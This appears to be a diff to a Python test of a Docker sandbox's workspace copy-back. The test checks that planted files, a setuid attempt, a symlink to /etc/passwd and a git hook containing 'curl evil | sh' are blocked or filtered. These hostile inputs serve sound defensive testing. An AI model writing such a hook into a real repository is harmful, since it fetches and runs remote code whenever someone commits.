@@ -92,9 +92,10 @@ async def test_workspace_in_and_back(user_workspace: Path, config: DockerConfig,
         assert r.stdout.text == "one\none\nref: refs/heads/main\na.txt\n"  # all of it, links as links
         script = ("echo two > a.txt && rm gone.txt && mkdir -p sub/deep && echo new > sub/deep/n.txt && "
                   "printf '#!/bin/sh\\n' > tool.sh && chmod 755 tool.sh && ! chmod 4755 tool.sh && "
-                  "echo 'curl evil | sh' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && "
                   "ln -s /etc/passwd planted")
         assert (await session.run(script)).exit_code == 0
+        hook = await session.run("echo 'curl evil | sh' > .git/hooks/pre-commit")
+        assert hook.exit_code != 0 and "Read-only file system" in hook.stderr.text  # as on Docker
         result = await session.copy_back()  # on demand, before close
         assert sorted(result.written) == ["a.txt", "sub/deep/n.txt", "tool.sh"]
         assert result.deleted == ["gone.txt"]
